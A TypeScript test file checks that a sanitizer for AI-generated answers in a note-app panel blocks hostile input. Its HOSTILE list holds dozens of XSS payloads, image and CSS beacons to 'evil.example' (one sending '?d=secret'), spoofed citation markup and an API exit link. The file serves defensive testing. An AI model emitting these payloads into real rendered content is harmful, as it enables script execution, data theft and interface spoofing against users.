import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type PanelBrowser, startPanelBrowser } from '../testing/browser-page.ts';

/** What a model, or a note that it read, could write to run code, fetch something or dress up as the host. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x">',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](siyuan://plugins/other?do=harm)',
  '[x](/api/system/exit)',
  '![x](https://evil.example/?d=secret)',
  '![x](http://evil.example/pixel.gif "title")',
  '![x](//evil.example/i.png)',
  '![x][r]\n\n[r]: https://evil.example/ref.png',
  '<img src="https://evil.example/i.png">',
  '<picture><source srcset="https://evil.example/i.png"><img></picture>',
  '<video autoplay src="https://evil.example/v.mp4"></video>',
  '<audio autoplay src="https://evil.example/a.mp3"></audio>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<div style="background:url(https://evil.example/bg.png);position:fixed;inset:0">x</div>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button formaction="javascript:alert(1)">go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<div class="b3-dialog__scrim" id="commonMenu" data-node-id="20260412093011-abc1234">x</div>',
  '<a class="mg-cite" data-block-id="20260412093011-abc1234" href="siyuan://blocks/20260412093011-abc1234">fake</a>',
  '((20260412093011-abc1234 "<img src=x onerror=alert(1)>"))',
  '((20260412093011-abc1234 "x\\" onmouseover=\\"alert(1)"))',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '[a](https://a.example "x\\" onmouseover=alert(1) \\"")',
  '<<https://a.example/onmouseover=alert(1)>>',
  '| <img src=x onerror=alert(1)> |\n| - |\n| <svg/onload=alert(1)> |',
  '- <img src=x onerror=alert(1)>\n- [ ] <svg onload=alert(1)>',
  '`<img src=x onerror=alert(1)>` and ``<script>alert(1)</script>``',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<x-widget onclick=alert(1)>x</x-widget>',
  '<b onclick=alert(1)>x</b>',
  '<br onload=alert(1)>',
  '{{//!js_esc_newline_alert(1)}}',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
];

let browser: PanelBrowser;
let page: Page;
const requests: string[] = [];

beforeAll(async () => {
  browser = await startPanelBrowser('sanitize-page.ts');
  page = await browser.open();
  page.on('request', (request) => requests.push(request.url()));
});
afterAll(() => browser.close());

/** Elements and attributes that no answer may hold. */
function forbidden(): Promise<string[]> {
  return page.evaluate(() => {
    const allowed = new Set(
      'P BR HR H1 H2 H3 H4 H5 H6 UL OL LI BLOCKQUOTE PRE CODE DIV SPAN SMALL TABLE THEAD TBODY TR TH TD EM STRONG DEL B I U SUB SUP KBD MARK A IMG INPUT'.split(
        ' ',
      ),
    );
    const found: string[] = [];
    for (const element of document.querySelectorAll('body > div *')) {
      if (!allowed.has(element.nodeName)) found.push(element.nodeName);
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on') || ['style', 'id', 'name', 'srcset', 'formaction'].includes(name))
          found.push(`${element.nodeName} ${name}=${value}`);
        if (name === 'class' && !value.startsWith('mg-')) found.push(`class ${value}`);
        if ((name === 'href' || name === 'src') && !/^(https?:|mailto:|siyuan:\/\/blocks\/|assets\/)/.test(value))
          found.push(`${name} ${value}`);
        if (name === 'src' && !value.startsWith('assets/')) found.push(`src ${value}`);
      }
    }
    return found;
  });
}

/** Moves over, clicks and focuses everything that is shown, and lets pending tasks of the page run. */
async function provoke(): Promise<string[]> {
  return page.evaluate(async () => {
    for (const element of document.querySelectorAll<HTMLElement>('body > div *')) {
      for (const type of ['mouseover', 'focus', 'toggle', 'load', 'error']) element.dispatchEvent(new Event(type));
    }
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
    return window.fired;
  });
}

describe('hostile answers', () => {
  it('run nothing, fetch nothing and look like nothing but text', async () => {
    for (const text of HOSTILE) {
      await page.evaluate((payload) => window.showAnswer(payload), text);
      expect([text, await forbidden()]).toEqual([text, []]);
      expect([text, await provoke()]).toEqual([text, []]);
    }
    expect(requests).toEqual([]);
  });

  it('cannot make a checked citation by writing its HTML', async () => {
    for (const text of HOSTILE) {
      await page.evaluate((payload) => window.showAnswer(payload), text);
      expect(await page.locator('[data-block-id]').count(), text).toBe(0);
    }
  });

  it('are stopped by the second net alone', async () => {
    for (const html of HOSTILE.filter((text) => text.startsWith('<'))) {
      await page.evaluate((payload) => window.showHtml(payload), html);
      expect([html, await forbidden()]).toEqual([html, []]);
      expect([html, await provoke()]).toEqual([html, []]);
    }
    expect(requests).toEqual([]);
  });

  it('leave what Markdown needs', async () => {
    const html = await page.evaluate(() =>
      window.showAnswer('- [x] done\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n3. c\n\n[w](https://a.example)'),
    );
    expect(html).toContain('<td align="right">2</td>');
    expect(html).toMatch(/<input (?=[^>]*checked)(?=[^>]*disabled)(?=[^>]*type="checkbox")/);
    expect(html).toContain('<ol start="3">');
    expect(html).toMatch(/<a (?=[^>]*rel="noopener noreferrer nofollow")(?=[^>]*target="_blank")[^>]*>w<\/a>/);
  });
});

describe('character references', () => {
  /** Every name of the HTML standard, those that need no `;` also without it. */
  const table = new URL('src/compiler/phases/1-parse/utils/entities.js', import.meta.resolve('svelte/package.json'));
  const names = [...readFileSync(table, 'utf8').matchAll(/^\s*'?([A-Za-z][A-Za-z0-9]*;?)'?: \d+,?$/gmu)].map(([, name = '']) => name);

  it('are decoded by the browser as the package decodes them that it stands for in the built panel', async () => {
    const numbers = [0, 9, 10, 13, 31, 38, 60, 127, 128, 150, 159, 160, 0x200b, 0xd800, 0xfdd0, 0xfffe, 0x1f600, 0x10ffff, 0x110000, 1e12];
    const texts = [
      ...names.flatMap((name) => [`&${name}`, `a&${name}b`, `&${name.replace(';', '')}x`]),
      ...numbers.flatMap((code) => [`&#${code};`, `&#${code} x`, `&#x${code.toString(16)};`, `&#X${code.toString(16)}g`]),
      ...['&', '&;', '&#;', '&#x;', '&amp;lt;', '&&lt', 'a & b', '&notit;', '&ampersand', '<b>&lt;', '&unknown;', '&AMP', '&\n'],
    ];
    expect(texts.length).toBeGreaterThan(6000);
    const differing = await page.evaluate((all) => all.filter((text) => window.decodeBoth(text)[0] !== window.decodeBoth(text)[1]), texts);
    expect(differing).toEqual([]);
  });
});
